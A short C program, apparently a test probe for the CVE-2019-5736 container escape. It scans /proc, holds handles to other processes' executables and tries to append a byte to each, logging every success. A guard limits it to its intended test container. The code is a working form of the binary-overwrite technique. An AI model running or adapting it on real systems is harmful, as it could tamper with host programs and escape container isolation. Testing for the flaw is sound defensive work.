// Opens the program file of every other process it can see and tries to write to it, at once and after the process has ended
// (CVE-2019-5736). Writes a line to the file argv[1] for every success.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int held[64];

static void try_write(const char* path, const char* report) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) return;
  // One byte behind the end: the file stays a program, and its size tells.
  lseek(fd, 0, SEEK_END);
  if (write(fd, "X", 1) == 1) {
    int out = open(report, O_WRONLY | O_CREAT | O_APPEND, 0666);
    dprintf(out, "written\n");
    close(out);
  }
  close(fd);
}

int main(int argc, char** argv) {
  if (access("/bin/overwrite", X_OK) != 0) return 3;  // not in the container it was put into: it would do harm here
  if (argc != 2) return 2;
  for (int i = 0; i < 64; ++i) held[i] = -1;
  for (unsigned next = 0;;) {
    DIR* proc = opendir("/proc");
    struct dirent* entry;
    while ((entry = readdir(proc)) != NULL) {
      const long pid = atol(entry->d_name);
      if (pid <= 1 || pid == getpid()) continue;
      char path[512];
      snprintf(path, sizeof path, "/proc/%ld/exe", pid);
      char exe[512] = "";
      if (readlink(path, exe, sizeof exe - 1) < 0 || strcmp(exe, "/bin/busybox") == 0 || strcmp(exe, "/bin/overwrite") == 0) continue;
      int fd = open(path, O_PATH);
      if (fd < 0) continue;
      try_write(path, argv[1]);
      close(held[next % 64]);
      held[next++ % 64] = fd;
    }
    closedir(proc);
    for (int i = 0; i < 64; ++i) {
      if (held[i] < 0) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      try_write(path, argv[1]);
    }
  }
}
